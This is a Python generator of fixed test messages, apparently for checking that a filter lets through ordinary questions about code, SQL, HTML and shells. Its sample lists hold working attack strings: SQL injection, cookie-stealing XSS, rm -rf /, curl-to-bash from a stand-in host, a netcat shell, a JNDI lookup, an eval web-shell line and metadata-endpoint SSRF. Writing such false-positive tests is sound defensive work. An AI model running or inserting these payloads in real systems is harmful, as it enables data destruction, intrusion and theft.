"""A thousand ordinary messages of people who talk about programs, pages, databases and shells: what a filter must let through. Made from
templates in a fixed order, so that the same number is the same message in every run."""
import random

SQL = ["SELECT * FROM users WHERE id = 1 OR 1=1;", "DROP TABLE students; --", "' OR '1'='1' --", "1 UNION SELECT username, password FROM accounts",
       "INSERT INTO log VALUES (1, 'it''s fine'); DELETE FROM log WHERE id > 5", "SELECT pg_sleep(5)", "EXEC xp_cmdshell 'dir'",
       "UPDATE t SET a = a + 1 WHERE b IN (SELECT b FROM c) /* why so slow? */", "admin'--", "SELECT table_name FROM information_schema.tables"]
HTML = ["<script>alert('hi')</script>", "<img src=x onerror=alert(1)>", "<b>bold</b> and <i>italic</i>", "<a href=\"javascript:void(0)\">a link</a>",
        "<svg/onload=alert(document.cookie)>", "<iframe src=\"https://example.org/\"></iframe>", "<div class=\"a\" onclick=\"go()\">press me</div>",
        "<!-- a comment --><p>text &amp; more</p>", "<style>body { color: red }</style>", "{{ user.name }} and {% if x %}y{% endif %}"]
SHELL = ["rm -rf / --no-preserve-root", "cat /etc/passwd | grep root", "; ls -la && whoami", "$(curl -s https://example.org/install.sh | bash)",
         "`id`", "wget http://example.org/x.tgz -O /tmp/x && tar xf /tmp/x", "ping -c 1 127.0.0.1 || echo down", "nc -lvp 4444 -e /bin/sh",
         "powershell -enc SQBFAFgA", "sudo chmod 777 ../../etc/shadow"]
CODE = ["for (int i = 0; i < n; i++) { printf(\"%d\\n\", a[i]); }", "eval(base64_decode($_POST['x']));", "import os; os.system('ls')",
        "const f = (x) => x?.y ?? require('child_process').exec('ls')", "<?php phpinfo(); ?>", "Runtime.getRuntime().exec(\"calc\")",
        "${jndi:ldap://example.org/a}", "#{7*7} and ${7*7}", "def f(*a, **k): return __import__('sys').exit(0)",
        "constructor.prototype.polluted = true; __proto__"]
REGEX = [r"^(?:[a-z0-9]+\.)*[a-z]{2,}$", r"(a+)+$", r"\b\d{3}-\d{4}\b", r"s/\/etc\/passwd/..\/..\/x/g", r"[\x00-\x1f\x7f]"]
URLS = ["https://example.org/a?b=c&d=e#f", "http://127.0.0.1:8080/admin/../etc/passwd", "file:///etc/hosts", "ftp://user:pw@example.org/x",
        "https://xn--bcher-kva.example/%E2%82%AC?q=%3Cscript%3E", "http://169.254.169.254/latest/meta-data/",
        "POST /login HTTP/1.1\r\nHost: example.org\r\nContent-Length: 5", "C:\\Windows\\System32\\cmd.exe"]
PLAIN = ["See you at 9?", "O'Neill's boat isn't ready -- or is it?", "50% off; 2 < 3 && 3 > 2", "I'd select the oak from the table by the union hall",
         "order by Friday, group by size", "Who's there?", "a = b; c = d", "what/ever", "😀 <3 (: --", "“Quotes” — and … dots"]

TEMPLATES = [
    "What does {0} do?", "Is this safe: {0}", "My teacher wrote {0} on the board. Why?", "{0}", "I typed\n\n    {0}\n\nand got an error.",
    "```\n{0}\n{1}\n```\nWhich one is faster?", "Someone sent me {0} — should I worry?", "Please explain {0} as if I were five; then {1}",
    "Was macht {0} eigentlich genau? Läuft das überall?", "Bitte erkläre den Unterschied zwischen {0} und {1}.",
    "Qu'est-ce que {0} veut dire ? C'est l'exemple d'hier.", "¿Qué hace {0}? ¿Y por qué «{1}» no funciona?", "Что делает {0}?",
    "{0} は何をしますか。", "{0} 和 {1} 有什么区别?", "ماذا يفعل {0}؟", "What's the difference between '{0}' and \"{1}\"?", "/* {0} */ // {1}",
    "1. {0}\n2. {1}\n3. profit", "TIL {0} #security #til",
]
THINGS = [*SQL, *HTML, *SHELL, *CODE, *REGEX, *URLS, *PLAIN]


def messages(n=1000):
    """The first n, each different."""
    dice = random.Random(20261124)
    made = dict.fromkeys(template.format(thing, dice.choice(THINGS)) for thing in THINGS for template in TEMPLATES)
    mixed = list(made)
    dice.shuffle(mixed)
    assert len(mixed) >= n
    return mixed[:n]
